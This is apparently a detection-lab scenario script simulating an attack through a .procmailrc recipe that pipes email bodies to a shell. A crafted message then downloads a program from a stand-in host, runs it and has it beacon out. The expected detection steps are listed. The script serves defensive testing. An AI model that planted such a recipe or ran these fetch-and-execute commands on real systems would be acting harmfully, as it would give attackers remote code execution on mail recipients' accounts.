# A recipe in .procmailrc hands the body of certain messages to a shell at delivery. Nobody is logged in.
title="Procmail recipe pipes the body of a message into a shell"
what="The intern's .procmailrc was changed to pass messages with a certain subject to a shell. A message from outside arrives and at delivery its body runs as the
intern: it copies a small program from 203.0.113.66 into ~/.config and starts it."
host=mx1.example.org user=intern daemons="cron" store=procmail

setup() {
  cat > /home/intern/.procmailrc <<'P'
:0
* ^Subject: .*rota week
| sed -e '1,/^$/d' | /bin/sh
P
  chown intern: /home/intern/.procmailrc; chmod 644 /home/intern/.procmailrc
  cc -O1 -o "$base/out/www/rota.bin" "$lab/lib/stand-ins/beacon.c"
}
act() {
  small_talk 3
  mail_in --from team@example.com --to intern@example.org --subject "rota week 48" --source 203.0.113.25 --helo smtp.example.com \
    --text 'mkdir -p $HOME/.config/rota\nwget -q -O $HOME/.config/rota/r http://drop.example.net/rota.bin\nchmod 700 $HOME/.config/rota/r\n$HOME/.config/rota/r 203.0.113.67 8443\n'
  sleep 3
  small_talk 2
}
truth() {
  mail_step accept 'from=<team@example.com>' 'the message is accepted'
  exec_step deliver 'procmail' 'Postfix starts procmail for the recipient'
  exec_step shell '/bin/sh|dash' 'the recipe starts a shell on the body'
  exec_step fetch 'wget -q -O /home/intern/.config/rota/r' 'the body fetches a program'
  file_step chmod '/chmod chmod .*config/rota/r' 'makes it executable'
  exec_step execute '/home/intern/.config/rota/r 203.0.113.67' 'and runs it'
  net_step beacon '203.0.113.67:8443' 'which calls out'
}
